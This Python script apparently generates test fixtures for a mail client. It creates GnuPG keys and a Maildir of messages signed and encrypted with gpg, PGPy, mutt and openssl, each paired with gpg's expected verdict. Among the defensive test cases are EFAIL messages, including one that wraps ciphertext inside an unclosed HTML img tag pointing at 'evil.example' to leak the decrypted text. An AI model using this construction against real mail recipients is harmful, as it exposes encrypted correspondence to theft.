#!/usr/bin/env python3
"""Make signed and encrypted messages with other programs, and say how gpg itself judges each of them.

usage: make-secured-mail.py [--hold] DIRECTORY

Creates in DIRECTORY, whose path should be short because of the socket of gpg-agent: `kim`, the GnuPG home of the reader;
`ana`, that of the sender; `mail`, a Maildir with the messages; and `expected.json`, a list of objects with "subject",
"signature" (good, keyExpired, keyRevoked, bad, keyMissing or null), "encryption" (decrypted, noSecretKey, unprotected,
modified or null), "covers" (message or part) and "text", a text that is shown. Messages are made with gpg, with PGPy if it
is installed, with mutt at a terminal if that is installed, and with openssl. The agents are stopped at the end. With --hold,
then prints a line, waits for the end of standard input, and removes DIRECTORY.
"""

import email
import json
import os
import pathlib
import pty
import re
import select
import shutil
import signal
import subprocess
import sys
import time

HOLDS = sys.argv[1] == "--hold"
ROOT = pathlib.Path(sys.argv[-1])
KIM, ANA, STRANGER = ROOT / "kim", ROOT / "ana", ROOT / "xyz"
MAIL = ROOT / "mail"
expected = []


def run(program, home, *words, data=b"", check=True):
    done = subprocess.run(
        [program, *words], input=data, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
        env={**os.environ, "GNUPGHOME": str(home), "LC_ALL": "C.UTF-8"})
    if check and done.returncode:
        sys.exit(f"{program} {' '.join(words)}: {done.stderr.decode(errors='replace')}")
    return done


def gpg(home, *words, **options):
    return run("gpg", home, "--batch", "--no-tty", *words, **options).stdout


def key(home, name, *algorithm):
    gpg(home, "--passphrase", "", "--quick-generate-key", name, *(algorithm or ("ed25519", "sign", "never")))
    address = re.search("<(.*)>", name)[1]
    listing = gpg(home, "--with-colons", "--list-keys", f"<{address}>").decode()
    fingerprint = re.search("^fpr:+([0-9A-F]+):", listing, re.M)[1]
    if not algorithm:
        gpg(home, "--passphrase", "", "--quick-add-key", fingerprint, "cv25519", "encr", "never")
    return fingerprint


def crlf(text):
    return re.sub(b"\r?\n", b"\r\n", text if isinstance(text, bytes) else text.encode())


def deliver(subject, head, body, signature=None, encryption=None, covers="message", text="", sender="Ana Ruiz <ana@example.org>", lf=False):
    """Stores a message. `head` are its Content- fields."""
    number = len(expected) + 1
    message = crlf(
        f"From: {sender}\nTo: kim@example.net\nDate: Mon, 12 Oct 2026 14:03:00 +0200\nMessage-ID: <{number}@example.org>\n"
        f"Subject: {subject}\nMIME-Version: 1.0\n{head}\n\n") + body
    if lf:
        message = message.replace(b"\r\n", b"\n")
    (MAIL / f"cur/17914{number:05}.x:2,S").write_bytes(message)
    expected.append(dict(subject=subject, signature=signature, encryption=encryption, covers=covers, text=text))


# Content to sign or encrypt ----------------------------------------------------------------

PLAIN = crlf("Content-Type: text/plain; charset=us-ascii\n\nThe harbour plan.\n")
QUOTED = crlf("Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: quoted-printable\n\nThe h=C3=A4rbour plan.=20\n-- =20\n")
TWO = crlf("Content-Type: multipart/alternative; boundary=in\n\npreamble\n--in\nContent-Type: text/plain\n\nThe harbour plan.\n--in\nContent-Type: text/html\n\n<p>The harbour plan.</p>\n--in--\nepilogue\n")
FILES = crlf("Content-Type: multipart/mixed; boundary=in\n\n--in\nContent-Type: text/plain\n\nThe harbour plan.\n--in\nContent-Type: application/octet-stream; name=a.bin\nContent-Transfer-Encoding: base64\n\nAAECAwQ=\n--in--\n")
SUBJECT = crlf('Content-Type: text/plain; hp="cipher"\nSubject: The inner subject\nFrom: Ana Ruiz <ana@example.org>\n\nThe harbour plan.\n')


def signed(content, signature, name="pgp-signature", micalg="pgp-sha256"):
    head = f'Content-Type: multipart/signed; micalg={micalg}; protocol="application/{name}"; boundary="out"'
    body = b"This is a signed message.\r\n--out\r\n" + content + b"\r\n--out\r\nContent-Type: application/" + name.encode()
    if name != "pgp-signature":
        import base64
        body += b"\r\nContent-Transfer-Encoding: base64\r\n\r\n" + crlf(base64.encodebytes(signature))
    else:
        body += b"; name=signature.asc\r\n\r\n" + crlf(signature)
    return head, body + b"\r\n--out--\r\n"


def encrypted(armor):
    head = 'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary="out"'
    return head, (b"--out\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n--out\r\n"
                  b"Content-Type: application/octet-stream\r\n\r\n" + crlf(armor) + b"\r\n--out--\r\n")


def around(head, body, boundary="around"):
    return f"Content-Type: multipart/mixed; boundary={boundary}", (
        f"--{boundary}\r\n".encode() + crlf(head) + b"\r\n\r\n" + body + f"\r\n--{boundary}\r\n".encode()
        + crlf("Content-Type: text/plain\n\nA footer of the list.\n") + f"--{boundary}--\r\n".encode())


# gpg ---------------------------------------------------------------------------------------


def verdict(content, armor):
    """What gpg says about a detached signature."""
    (ROOT / "sig").write_bytes(armor)
    status = run("gpg", KIM, "--batch", "--status-fd", "1", "--verify", str(ROOT / "sig"), "-", data=content, check=False).stdout
    for word, meaning in ((b"EXPKEYSIG", "keyExpired"), (b"REVKEYSIG", "keyRevoked"), (b"GOODSIG", "good"), (b"BADSIG", "bad"),
                          (b"NO_PUBKEY", "keyMissing")):
        if b"] " + word + b" " in status:
            return meaning
    return "unchecked"


def outcome(armor):
    status = run("gpg", KIM, "--batch", "--pinentry-mode", "error", "--status-fd", "2", "--decrypt", data=armor, check=False).stderr
    if b"] DECRYPTION_OKAY" in status:
        return "decrypted"
    if b"] NO_SECKEY" in status and b"] PLAINTEXT" not in status:
        return "noSecretKey"
    if b"] DECRYPTION_INFO 0" in status:
        return "unprotected"
    return "modified"


def with_gpg(ana, rsa, old, gone, stranger):
    for name, content in (("plain", PLAIN), ("quoted", QUOTED), ("alternative", TWO), ("files", FILES)):
        for digest in ("SHA256", "SHA512"):
            armor = gpg(ANA, "-u", ana, "--digest-algo", digest, "--armor", "--detach-sign", data=content)
            deliver(f"gpg signed {name} {digest}", *signed(content, armor, micalg=f"pgp-{digest.lower()}"),
                    signature=verdict(content, armor), text="rbour plan.")
    armor = gpg(ANA, "-u", rsa, "--armor", "--textmode", "--detach-sign", data=PLAIN)
    deliver("gpg signed in text mode with RSA", *signed(PLAIN, armor), signature=verdict(PLAIN, armor), text="harbour")
    deliver("gpg signed stored with LF", *signed(PLAIN, armor), signature="good", text="harbour", lf=True)
    forged = PLAIN.replace(b"harbour", b"airport")
    deliver("gpg forged", *signed(forged, armor), signature=verdict(forged, armor), text="airport")
    for name, home, key_id in (("expired", ANA, old), ("revoked", ANA, gone), ("unknown", STRANGER, stranger)):
        armor = (ROOT / f"{name}.asc").read_bytes()
        deliver(f"gpg signed with {name} key", *signed(PLAIN, armor), signature=verdict(PLAIN, armor), text="harbour",
                sender=f"{name} <{name}@example.org>")
    armor = gpg(ANA, "-u", ana, "--armor", "--detach-sign", data=PLAIN)
    deliver("gpg signed inside a list", *around(*signed(PLAIN, armor)), signature="good", covers="part", text="A footer of the list.")
    for name, content in (("plain", PLAIN), ("quoted", QUOTED), ("alternative", TWO), ("files", FILES)):
        for signs in (False, True):
            words = ["-u", ana, "--sign"] if signs else []
            armor = gpg(ANA, "--trust-model", "always", "-r", "kim@example.net", *words, "--armor", "--encrypt", data=content)
            deliver(f"gpg encrypted {name}{' and signed' if signs else ''}", *encrypted(armor), signature="good" if signs else None,
                    encryption=outcome(armor), text="rbour plan.")
    for name, words in (("AES128", ["--cipher-algo", "AES128"]), ("uncompressed", ["-z", "0"]), ("bzip2", ["--compress-algo", "bzip2"]),
                        ("hidden", ["--hidden-recipient", "kim@example.net"])):
        to = [] if name == "hidden" else ["-r", "kim@example.net"]
        armor = gpg(ANA, "--trust-model", "always", *to, *words, "--armor", "--encrypt", data=PLAIN)
        deliver(f"gpg encrypted {name}", *encrypted(armor), encryption=outcome(armor), text="harbour")
    armor = gpg(ANA, "--trust-model", "always", "-r", "kim@example.net", "--armor", "--encrypt", data=SUBJECT)
    deliver("[...] inner", *encrypted(armor), encryption=outcome(armor), text="harbour")
    expected[-1]["subject"] = "The inner subject"
    armor = gpg(ANA, "--trust-model", "always", "-r", ana, "--armor", "--encrypt", data=PLAIN)
    deliver("gpg encrypted to another", *encrypted(armor), encryption=outcome(armor))
    armor = gpg(ANA, "--trust-model", "always", "-r", "kim@example.net", "--rfc2440", "--disable-mdc", "--armor", "--encrypt", data=PLAIN)
    deliver("EFAIL without MDC", *encrypted(armor), encryption=outcome(armor))
    binary = bytearray(gpg(ANA, "--trust-model", "always", "-r", "kim@example.net", "-z", "0", "--encrypt", data=PLAIN * 20))
    binary[-200] ^= 0x55
    (ROOT / "bent").write_bytes(bytes(binary))
    armor = gpg(ANA, "--enarmor", data=bytes(binary)).replace(b"ARMORED FILE", b"MESSAGE")
    deliver("EFAIL changed", *encrypted(armor), encryption=outcome(armor))
    armor = gpg(ANA, "--trust-model", "always", "-r", "kim@example.net", "--armor", "--encrypt", data=PLAIN)
    head, body = encrypted(armor)
    leak = crlf('--leak\nContent-Type: text/html\n\n<img src="http://evil.example/\n--leak\n') + crlf(head) + b"\r\n\r\n" + body + crlf(
        '\n--leak\nContent-Type: text/html\n\n">\n--leak--\n')
    deliver("EFAIL between HTML", "Content-Type: multipart/mixed; boundary=leak", leak, encryption="decrypted", covers="part")
    clear = gpg(ANA, "-u", ana, "--clearsign", data=b"Inline text.\n- with a dash\n")
    deliver("inline signed", "Content-Type: text/plain", crlf(clear), signature="good", text="Inline text.\n- with a dash")
    deliver("inline forged", "Content-Type: text/plain", crlf(clear.replace(b"Inline", b"Outline")), signature="bad", text="Outline")
    deliver("inline signed with text around", "Content-Type: text/plain", b"Before.\r\n" + crlf(clear), signature="good", covers="part", text="Before.")
    armor = gpg(ANA, "--trust-model", "always", "-r", "kim@example.net", "--armor", "--encrypt", data=b"Inline secret.\n")
    deliver("inline encrypted", "Content-Type: text/plain", crlf(armor), encryption="decrypted", text="Inline secret.")
    deliver("inline encrypted with text around", "Content-Type: text/plain", b"Before.\r\n" + crlf(armor), encryption="decrypted", covers="part",
            text="Before.")


def with_pgpy():
    """PGPy makes its own key, which gpg imports."""
    try:
        import warnings
        warnings.simplefilter("ignore")
        import pgpy
        from pgpy.constants import CompressionAlgorithm, HashAlgorithm, KeyFlags, PubKeyAlgorithm, SymmetricKeyAlgorithm
    except ImportError:
        print("SKIPPED: PGPy is not installed; scripts/deps --test installs it", file=sys.stderr)
        return
    made = pgpy.PGPKey.new(PubKeyAlgorithm.RSAEncryptOrSign, 2048)
    made.add_uid(pgpy.PGPUID.new("Py Ruiz", email="py@example.org"), usage={KeyFlags.Sign, KeyFlags.EncryptCommunications},
                 hashes=[HashAlgorithm.SHA256], ciphers=[SymmetricKeyAlgorithm.AES256], compression=[CompressionAlgorithm.ZLIB])
    gpg(KIM, "--import", data=str(made.pubkey).encode())
    gpg(KIM, "--quick-sign-key", made.fingerprint.replace(" ", ""))
    kim, _ = pgpy.PGPKey.from_blob(gpg(KIM, "--armor", "--export", "kim@example.net"))
    sender = "Py Ruiz <py@example.org>"
    for name, content in (("plain", PLAIN), ("quoted", QUOTED), ("alternative", TWO)):
        armor = str(made.sign(content)).encode()
        deliver(f"PGPy signed {name}", *signed(content, armor), signature=verdict(content, armor), text="rbour plan.", sender=sender)
        message = pgpy.PGPMessage.new(content, format="b")
        armor = str(kim.encrypt(message)).encode()
        deliver(f"PGPy encrypted {name}", *encrypted(armor), encryption=outcome(armor), text="rbour plan.", sender=sender)
        message = pgpy.PGPMessage.new(content, format="b")
        message |= made.sign(message)
        armor = str(kim.encrypt(message)).encode()
        deliver(f"PGPy signed and encrypted {name}", *encrypted(armor), signature="good", encryption=outcome(armor), text="rbour plan.", sender=sender)
    clear = pgpy.PGPMessage.new("Inline text.\n", cleartext=True)
    clear |= made.sign(clear)
    deliver("PGPy inline signed", "Content-Type: text/plain", crlf(str(clear)), signature="good", text="Inline text.", sender=sender)


def with_mutt(ana, kim):
    """mutt signs and encrypts only at a terminal. It runs gpg itself, as Debian sets it up, and then through GPGME."""
    if not shutil.which("mutt"):
        print("SKIPPED: mutt is not installed; scripts/deps --test installs it", file=sys.stderr)
        return
    # mutt asks which key is meant unless one is certified.
    gpg(ANA, "--yes", "-u", ana, "--quick-sign-key", kim)
    (ROOT / "Mail").mkdir()
    (ROOT / "body").write_text("The harbour plan.\n-- \nAna\n")
    catch = ROOT / "catch"
    catch.write_text(f"#!/bin/sh\ncat > '{ROOT}/sent'\n")
    catch.chmod(0o700)
    commands = "/etc/Muttrc.d/gpg.rc"
    (ROOT / "muttrc").write_text(
        f"source {commands}\n" * os.path.exists(commands)
        + f"set from=ana@example.org realname='Ana Ruiz' sendmail='{catch}' pgp_sign_as=0x{ana} pgp_use_gpg_agent=yes\n"
        f"set folder='{ROOT}/Mail' spoolfile='' record='' copy=no editor=true autoedit=yes edit_headers=yes\n"
        "set abort_unmodified=no abort_nosubject=no\n")
    ways = {"signed": "crypt_autosign=yes", "encrypted": "crypt_autoencrypt=yes",
            "encrypted and signed": "crypt_autosign=yes crypt_autoencrypt=yes"}
    for backend, setting in (("gpg", "no"), ("GPGME", "yes")):
        for way, settings in ways.items():
            sent = written_by_mutt(f"set crypt_use_gpgme={setting} {settings}")
            head, body = crlf(sent).split(b"\r\n\r\n", 1)
            kind = email.message_from_bytes(head + b"\r\n\r\n")["Content-Type"]
            deliver(f"mutt {way} with {backend}", "Content-Type: " + re.sub(r"\s+", " ", kind), body,
                    signature="good" if "signed" in way else None, encryption="decrypted" if "encrypted" in way else None,
                    text="The harbour plan.")


def written_by_mutt(settings):
    """Lets mutt write a mail, and presses y when it asks. Returns what mutt gives to sendmail.

    mutt discards what was typed before it waits for a key, so y is pressed again after a second without a reaction.
    """
    (ROOT / "sent").unlink(missing_ok=True)
    child, terminal = pty.fork()
    if child == 0:
        os.environ.update(GNUPGHOME=str(ANA), HOME=str(ROOT), TMPDIR=str(ROOT), LC_ALL="C.UTF-8", TERM="xterm")
        os.execvp("mutt", ["mutt", "-n", "-F", str(ROOT / "muttrc"), "-e", settings, "-s", "plan", "-i", str(ROOT / "body"), "kim@example.net"])
    shown, reaction, end = b"", 0, time.monotonic() + 30
    while time.monotonic() < end:
        if select.select([terminal], [], [], 0.2)[0]:
            try:
                shown += os.read(terminal, 1 << 16)
            except OSError:  # mutt has ended.
                break
            if reaction:
                reaction = time.monotonic()
        if b"y:Send" in shown and time.monotonic() > reaction + 1:
            os.write(terminal, b"y")
            reaction = time.monotonic()
    else:
        os.kill(child, signal.SIGKILL)
    os.waitpid(child, 0)
    os.close(terminal)
    if not (ROOT / "sent").exists():
        sys.exit(f"mutt sent nothing: {shown[-1500:]}")
    return (ROOT / "sent").read_bytes()


def with_openssl():
    """A certificate authority, and certificates of the sender and the reader."""
    def openssl(*words, **options):
        return run("openssl", KIM, *words, **options).stdout

    path = lambda name: str(ROOT / name)
    openssl("req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", path("ca.key"), "-out", path("ca.pem"), "-days", "3650", "-subj",
            "/CN=Test CA", "-addext", "keyUsage=critical,keyCertSign,cRLSign")
    for name, address in (("s-ana", "ana@example.org"), ("s-kim", "kim@example.net")):
        openssl("req", "-newkey", "rsa:2048", "-nodes", "-keyout", path(f"{name}.key"), "-out", path(f"{name}.csr"), "-subj", f"/CN={name}")
        (ROOT / "extensions").write_text(f"subjectAltName=email:{address}\nkeyUsage=critical,digitalSignature,keyEncipherment\n"
                                         "extendedKeyUsage=emailProtection\nbasicConstraints=CA:false\n")
        openssl("x509", "-req", "-in", path(f"{name}.csr"), "-CA", path("ca.pem"), "-CAkey", path("ca.key"), "-CAcreateserial", "-days", "3000",
                "-extfile", path("extensions"), "-out", path(f"{name}.pem"))
    print_ = openssl("x509", "-in", path("ca.pem"), "-noout", "-fingerprint", "-sha1").decode().split("=")[1].strip()
    (KIM / "trustlist.txt").write_text(f"{print_} S relax\n")
    run("gpgsm", KIM, "--batch", "--disable-dirmngr", "--import", path("ca.pem"), path("s-ana.pem"))
    # gpgsm sometimes cannot read a file, or its agent does not get the passphrase. Each file has another salt.
    for last in (False, False, False, False, True):
        openssl("pkcs12", "-export", "-legacy", "-inkey", path("s-kim.key"), "-in", path("s-kim.pem"), "-certfile", path("ca.pem"), "-passout", "pass:",
                "-out", path("kim.p12"))
        if run("gpgsm", KIM, "--batch", "--disable-dirmngr", "--pinentry-mode", "loopback", "--passphrase-fd", "0", "--import", path("kim.p12"),
               data=b"\n", check=last).returncode == 0:
            break
        time.sleep(1)
    for name, content in (("plain", PLAIN), ("alternative", TWO)):
        (ROOT / "content").write_bytes(content)
        signer = ["-signer", path("s-ana.pem"), "-inkey", path("s-ana.key"), "-outform", "DER"]
        signature = openssl("cms", "-sign", "-binary", "-in", path("content"), *signer)
        deliver(f"openssl signed {name}", *signed(content, signature, "pkcs7-signature", "sha-256"), signature="good", text="harbour")
        forged = content.replace(b"harbour", b"airport")
        deliver(f"openssl forged {name}", *signed(forged, signature, "pkcs7-signature", "sha-256"), signature="bad", text="airport")
        cms = lambda kind: f"Content-Type: application/pkcs7-mime; smime-type={kind}; name=smime.p7m\nContent-Transfer-Encoding: base64"
        import base64
        opaque = openssl("cms", "-sign", "-nodetach", "-binary", "-in", path("content"), *signer)
        deliver(f"openssl signed in one part {name}", cms("signed-data"), crlf(base64.encodebytes(opaque)), signature="good", text="harbour")
        for cipher in ("-aes128", "-aes256"):
            data = openssl("cms", "-encrypt", "-binary", "-in", path("content"), "-outform", "DER", cipher, path("s-kim.pem"))
            deliver(f"openssl encrypted {name} {cipher[1:]}", cms("enveloped-data"), crlf(base64.encodebytes(data)), encryption="decrypted",
                    text="harbour")
    head, body = signed(content, signature, "pkcs7-signature", "sha-256")
    (ROOT / "content").write_bytes(crlf(head) + b"\r\n\r\n" + body)
    data = openssl("cms", "-encrypt", "-binary", "-in", path("content"), "-outform", "DER", "-aes256", path("s-kim.pem"))
    deliver("openssl signed and encrypted", cms("enveloped-data"), crlf(base64.encodebytes(data)), signature="good", encryption="decrypted",
            text="harbour")
    data = openssl("cms", "-encrypt", "-binary", "-in", path("content"), "-outform", "DER", "-aes256", path("s-ana.pem"))
    deliver("openssl encrypted to another", cms("enveloped-data"), crlf(base64.encodebytes(data)), encryption="noSecretKey")


def main():
    for home in (KIM, ANA, STRANGER):
        home.mkdir(mode=0o700)
        subprocess.run(["gpg-agent", "--homedir", str(home), "--quiet", "--daemon"], check=True, stdout=subprocess.DEVNULL)
    for place in ("cur", "new", "tmp"):
        (MAIL / place).mkdir(parents=True)
    kim = key(KIM, "Kim Park <kim@example.net>")
    ana = key(ANA, "Ana Ruiz <ana@example.org>")
    rsa = key(ANA, "Ana at Work <ana@example.org>", "rsa2048", "sign", "never")
    stranger = key(STRANGER, "Unknown <unknown@example.org>")
    old = key(ANA, "Old <expired@example.org>", "ed25519", "sign", "never")
    gone = key(ANA, "Gone <revoked@example.org>", "ed25519", "sign", "never")
    gpg(ANA, "--import", data=gpg(KIM, "--export", kim))
    for name, home, key_id in (("expired", ANA, old), ("revoked", ANA, gone), ("unknown", STRANGER, stranger)):
        (ROOT / f"{name}.asc").write_bytes(gpg(home, "-u", key_id, "--armor", "--detach-sign", data=PLAIN))
    run("gpg", ANA, "--batch", "--quick-set-expire", old, "seconds=1")
    time.sleep(2)  # Until the key has expired, gpg calls the signature good.
    revocation = (ANA / f"openpgp-revocs.d/{gone}.rev").read_text().replace(":-----BEGIN", "-----BEGIN")
    gpg(ANA, "--import", data=revocation.encode())
    for key_id in (ana, rsa, old, gone):
        gpg(KIM, "--import", data=gpg(ANA, "--export", key_id))
        run("gpg", KIM, "--batch", "--yes", "--quick-sign-key", key_id, check=False)
    with_gpg(ana, rsa, old, gone, stranger)
    with_pgpy()
    with_mutt(ana, kim)
    with_openssl()
    (ROOT / "expected.json").write_text(json.dumps(expected))


try:
    try:
        main()
    finally:
        for home in (KIM, ANA, STRANGER):
            if home.is_dir():
                subprocess.run(["gpgconf", "--homedir", str(home), "--kill", "all"], check=False)
    if HOLDS:
        print("made", flush=True)
        sys.stdin.read()
finally:
    if HOLDS:
        shutil.rmtree(ROOT, ignore_errors=True)
